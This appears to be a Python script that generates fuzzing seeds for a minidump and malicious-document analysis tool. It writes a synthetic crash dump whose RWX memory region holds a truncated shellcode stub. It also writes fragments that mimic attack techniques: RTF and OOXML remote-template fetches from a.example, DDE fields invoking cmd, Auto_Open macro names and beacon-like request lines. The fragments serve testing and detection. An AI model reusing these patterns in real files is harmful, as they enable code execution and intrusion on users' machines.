#!/usr/bin/env python3
"""Writes the seeds of minidump_fuzzer: a small dump with every stream, a compound file, parts of documents.

  make_minidump_seeds.py [FOLDER]     default: corpus/minidump beside this file

Made of harmless bytes only. The full dump is also one for tools/compare_with_minidump.py.
"""
import pathlib
import struct
import sys


def text(string):
    data = string.encode("utf-16-le")
    return struct.pack("<I", len(data)) + data + b"\0\0"


class Dump:
    """A minidump under way: blobs at their offsets, then the directory."""

    def __init__(self, rooms):
        self.data = bytearray(32 + 12 * rooms)
        self.rows = []

    def put(self, blob):
        at = len(self.data)
        self.data += blob
        return at

    def stream(self, kind, blob):
        self.rows.append((kind, len(blob), self.put(blob)))

    def finish(self):
        struct.pack_into("<IIIIIIQ", self.data, 0, 0x504D444D, 0xA793, len(self.rows), 32, 0, 1_600_000_000, 2)
        for i, row in enumerate(self.rows):
            struct.pack_into("<III", self.data, 32 + 12 * i, *row)
        return bytes(self.data)


def full_dump():
    dump = Dump(10)
    names = [dump.put(text(name)) for name in ("C:\\a\\host.exe", "gone.dll", "Mutant", "\\BaseNamedObjects\\x", "main")]
    context = dump.put(bytes(0xF8) + struct.pack("<Q", 0x140001010) + bytes(976))
    code = b"\xFC\x48\x83\xE4\xF0\xE8\xC8\0\0\0AQAPR" + b"\x90" * 241
    data = b"BgIAAACkAABSU0Ex" + b"x" * 240
    dump.stream(7, struct.pack("<HHHBBIIIIIHH", 9, 6, 0x102, 4, 3, 10, 0, 17_763, 2, 0, 0, 0) + bytes(24))
    dump.stream(15, struct.pack("<IIII", 24, 3, 4711, 1_599_999_000) + bytes(8))
    dump.stream(4, struct.pack("<I", 1) + struct.pack("<QIIII", 0x140000000, 0x5000, 7, 1_500_000_000, names[0]) + bytes(84))
    dump.stream(14, struct.pack("<III", 12, 24, 1) + struct.pack("<QIIII", 0x180000000, 0x3000, 8, 1_400_000_000, names[1]))
    dump.stream(3, struct.pack("<I", 1) + struct.pack("<IIIIQQIIII", 11, 0, 32, 0, 0x7000, 0x6000, 0, 0, 1232, context))
    dump.stream(17, struct.pack("<III", 12, 64, 1) + struct.pack("<IIIIQQQQQQ", 11, 0, 0, 0, 132_500_000_000_000_000, 0, 0, 0,
                                                                0x20000, 1))
    dump.stream(24, struct.pack("<IIQ", 1, 11, names[4]))
    region = struct.pack("<QQIIQIIII", 0x20000, 0x20000, 0x40, 0, 256, 0x1000, 0x40, 0x20000, 0)
    region += struct.pack("<QQIIQIIII", 0x30000, 0x30000, 4, 0, 256, 0x1000, 4, 0x20000, 0)
    dump.stream(16, struct.pack("<IIQ", 16, 48, 2) + region)
    dump.stream(12, struct.pack("<IIII", 16, 32, 1, 0) + struct.pack("<QIIIIII", 4, names[2], names[3], 0, 0x1F0001, 1, 1))
    at = len(dump.data) + 16 + 32
    dump.stream(9, struct.pack("<QQQQQQ", 2, at, 0x20000, 256, 0x30000, 256))
    dump.put(code + data)
    return dump.finish()


SEEDS = {
    "full.dmp": full_dump(),
    "template.rtf": b"{\\rtf1{\\*\\template \\u104?\\u116?tp://a.example/t.dot}{\\object\\objupdate{\\*\\objdata 01}}}",
    "settings.rels": b'<Relationships><Relationship Type="x/attachedTemplate" Target="http://a.example/t" '
                     b'TargetMode="External"/></Relationships>',
    "field.xml": b'<w:instrText> DDE</w:instrText><w:instrText>AUTO cmd &quot;/k&quot;</w:instrText>',
    "link.xml": b'<ddeLink ddeService="cmd" ddeTopic="/c x"/><definedName name="Auto_Open">',
    "zone.txt": b"[ZoneTransfer]\r\nZoneId=2\r\nHostUrl=https://a.example/x\r\n",
    "requests.txt": b"GET /?abc=0123abcd8d0e540f1\r\nUser-Agent: TW96aWxsYS81\r\nufw=MTkyLjAuMi43fDYuMXwz&uis=1",
    "block.bin": b"\0" + b"203.0.113.9".ljust(32, b"\0") + b"\xBB\1\0\0" + b"group".ljust(16, b"\0") + b"keykey\0\0",
}


def ole_file():
    """A compound file with one stream of macros in it, in ordinary sectors."""
    chunk = b"\0Sub Auto\0Open()\r\n"
    packed = b"\1" + struct.pack("<H", 0xB000 | (len(chunk) - 1)) + chunk
    record = b"\x1A\0\1\0\0\0M" + b"\x31\0\4\0\0\0" + bytes(4) + b"\x2B\0" + bytes(4)
    pieces = b"".join(b"\0" + record[i:i + 8] for i in range(0, len(record), 8))
    directory = b"\1" + struct.pack("<H", 0xB000 | (len(pieces) - 1)) + pieces
    rows = [("Root Entry", 5, 1, 0xFFFFFFFE, 0), ("VBA", 1, 2, 0xFFFFFFFE, 0), ("dir", 2, 0xFFFFFFFF, 0, len(directory)),
            ("M", 2, 0xFFFFFFFF, 1, len(packed))]
    table = b""
    for name, kind, child, start, size in rows:
        right = 3 if name == "dir" else 0xFFFFFFFF
        table += name.encode("utf-16-le").ljust(64, b"\0") + struct.pack("<HBB", 2 * len(name) + 2, kind, 1)
        table += struct.pack("<III", 0xFFFFFFFF, right, child) + bytes(36) + struct.pack("<IQ", start, size)
    fat = struct.pack("<IIII", 0xFFFFFFFE, 0xFFFFFFFE, 0xFFFFFFFE, 0xFFFFFFFD).ljust(512, b"\xFF")
    header = bytearray(512)
    struct.pack_into("<Q", header, 0, 0xE11AB1A1E011CFD0)
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIIII", header, 44, 1, 2, 0, 0, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0, 3)
    header[80:512] = b"\xFF" * 432
    return bytes(header) + directory.ljust(512, b"\0") + packed.ljust(512, b"\0") + table + fat


def main():
    folder = pathlib.Path(sys.argv[1]) if len(sys.argv) > 1 else pathlib.Path(__file__).parent / "corpus" / "minidump"
    folder.mkdir(parents=True, exist_ok=True)
    for name, data in {**SEEDS, "macros.doc": ole_file()}.items():
        (folder / name).write_bytes(data)


if __name__ == "__main__":
    main()
